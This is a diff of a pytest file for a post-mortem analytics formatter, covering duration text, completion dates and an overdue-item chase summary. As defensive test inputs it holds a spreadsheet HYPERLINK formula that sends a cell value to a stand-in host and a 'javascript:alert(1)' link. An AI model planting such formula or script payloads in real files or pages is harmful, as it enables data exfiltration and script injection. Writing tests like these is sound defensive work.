@@ -1,6 +1,7 @@
 """Times read as "1 h 05 min", unknown reads "unknown", and post-mortem text stays inert."""
 
 import math
+from datetime import date
 
 import pytest
 
@@ -27,6 +28,16 @@ def test_format_minutes(minutes, text):
 @pytest.mark.parametrize("minutes, text", [(0, "0"), (30, "30 min"), (120, "2 h"), (90, "1 h 30 min"), (2880, "2 d")])
 def test_axis_ticks(minutes, text):
     assert format_minutes_tick(minutes) == text
+
+
+def test_a_completion_day_is_unknown_only_when_the_item_is_done():
+    from datetime import date
+
+    from pm_analytics.formatting import format_completed
+
+    assert format_completed("done", date(2026, 2, 3)) == "2026-02-03"
+    assert format_completed("done", None) == "unknown"
+    assert format_completed("open", None) == format_completed("wontfix", None) == "—"
 
 
 def test_counts_and_percents():
@@ -79,3 +90,29 @@ def test_csv_cells_that_start_like_a_formula_are_made_inert_and_numbers_stay_num
     assert [r["title"] for r in rows] == ['\'=HYPERLINK("http://x/?"&A1,"open")', "'+1", "'-x", "'@SUM(A1)",
                                           "'\tpad", "'\rcr", "plain", ""]
     assert [r["minutes"] for r in rows][:2] == ["-5.0", "1.0"] and rows[0]["count"] == "-1"
+
+
+def test_chase_text_is_ready_to_paste_grouped_by_team_then_owner():
+    import pandas as pd
+
+    from pm_analytics.formatting import chase_text
+
+    items = pd.DataFrame([
+        {"priority": "P0", "owner": "Ann", "teams": "Payments", "days_overdue": 12, "ticket": "PAY-1",
+         "ticket_url": "https://tracker.example/PAY-1", "incident_id": "INC-1", "title": "Checkout down",
+         "action_id": "AI1", "description": "Alert on card errors"},
+        {"priority": "P1", "owner": None, "teams": None, "days_overdue": 3, "ticket": None,
+         "ticket_url": "javascript:alert(1)", "incident_id": "INC-2", "title": "Search slow",
+         "action_id": "AI2", "description": "Add an index"},
+    ])
+    assert chase_text(items, date(2026, 11, 26), ("P0", "P1")) == (
+        "Overdue P0/P1 action items as of 2026-11-26: 2\n"
+        "\n"
+        "Payments\n"
+        "  Ann\n"
+        "    - P0 AI1: Alert on card errors | 12 days overdue | PAY-1 https://tracker.example/PAY-1 | INC-1 Checkout down\n"
+        "\n"
+        "(no team)\n"
+        "  (no owner)\n"
+        "    - P1 AI2: Add an index | 3 days overdue | no ticket | INC-2 Search slow")
+    assert chase_text(items.iloc[:0], date(2026, 11, 26), ("P0",)) == "No overdue P0 action items as of 2026-11-26."
